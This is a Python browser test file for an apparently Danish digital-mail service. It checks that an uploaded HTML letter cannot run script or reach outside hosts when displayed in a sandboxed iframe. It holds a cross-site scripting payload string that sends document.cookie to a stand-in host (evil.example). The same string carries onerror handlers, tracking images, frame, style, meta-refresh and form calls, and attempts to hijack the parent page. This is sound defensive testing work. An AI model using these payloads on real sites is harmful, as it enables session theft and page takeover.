"""In a real Chromium: a script in a letter neither runs nor reads, even if cleaning failed."""

import re

import pytest
from django.test import Client, override_settings

from fundament.capabilities.post.render import showing

pytestmark = pytest.mark.browser
CALLS = "https://evil.example/"
ATTACK = f"""<html><body><h1>Kære borger</h1><script>
try {{ parent.document.title = 'taken'; }} catch (e) {{}}
try {{ top.location = '{CALLS}top'; }} catch (e) {{}}
fetch('{CALLS}' + document.cookie); new Image().src = '{CALLS}pixel';
document.body.innerHTML = 'taken';
</script><img src=x onerror="fetch('{CALLS}error')"><img src="{CALLS}tracking">
<iframe src="{CALLS}frame"></iframe><link rel="stylesheet" href="{CALLS}style">
<style>@import url({CALLS}import);</style><meta http-equiv="refresh" content="0;url={CALLS}meta">
<form action="{CALLS}form"><button>Send</button></form></body></html>"""


@pytest.fixture
def answers(send, citizen, reader):
    """The real page and the real content answer for a letter that holds the attack."""
    assert send(files=[("brev.html", "text/html", ATTACK.encode())]).status_code == 201
    client, _ = reader(citizen)
    listed = client.get("/post/", secure=True).content.decode()
    letter = re.search(r'href="(/post/[0-9a-f-]{36}/)"', listed)[1]
    page = client.get(letter, secure=True)
    address = re.search(r'<iframe src="([^"#]+)', page.content.decode())[1]

    def content():
        with override_settings(ROOT_URLCONF="fundament.site.content_urls", MIDDLEWARE=[]):
            return Client().get("/" + address.rsplit("/", 1)[1], secure=True)

    return page, address, content


def show(chromium, settings, page, address, content):
    """Open the page with its frame in the browser; return its title, the frame, what was asked."""
    asked = []

    def route(handler):
        url = handler.request.url
        asked.append(url)
        if url == f"{settings.BASE_URL}/letter":
            served = page
        elif url == address:
            served = content
        else:
            handler.abort()
            return
        headers = {name: value for name, value in served.items() if name != "Content-Length"}
        handler.fulfill(status=200, headers=headers, body=served.content)

    context = chromium.new_context(ignore_https_errors=True)
    context.add_cookies([{"name": "secret", "value": "1", "url": settings.BASE_URL}])
    context.route("**/*", route)
    opened = context.new_page()
    opened.goto(f"{settings.BASE_URL}/letter")
    opened.wait_for_load_state("networkidle")
    frame = opened.frame_locator("iframe")
    seen = opened.title(), frame.locator("body").text_content(timeout=3000), opened.url
    context.close()
    return seen, [url for url in asked if url.startswith(CALLS)]


def test_the_cleaned_letter(chromium, settings, answers):
    page, address, content = answers
    (title, text, url), calls = show(chromium, settings, page, address, content())
    assert "taken" not in title
    assert "Kære borger" in text
    assert url == f"{settings.BASE_URL}/letter"
    assert calls == []


def test_the_same_letter_with_cleaning_out_of_order(chromium, settings, answers, monkeypatch):
    """The frame's sandbox and the policy stand alone: no script, no picture, no style."""
    page, address, content = answers
    monkeypatch.setattr(showing, "_cleaned", lambda text: text)
    raw = content()
    assert b"<script>" in raw.content
    (title, text, url), calls = show(chromium, settings, page, address, raw)
    assert "taken" not in title
    assert "Kære borger" in text
    assert url == f"{settings.BASE_URL}/letter"
    assert calls == []


def test_this_test_can_fail(chromium, settings, answers, monkeypatch):
    """Without all three walls the same letter does run and calls home."""
    page, address, content = answers
    monkeypatch.setattr(showing, "_cleaned", lambda text: text)
    raw = content()
    del raw["Content-Security-Policy"]
    page.content = re.sub(rb' sandbox="[^"]*"', b"", page.content)
    _, calls = show(chromium, settings, page, address, raw)
    assert f"{CALLS}pixel" in calls
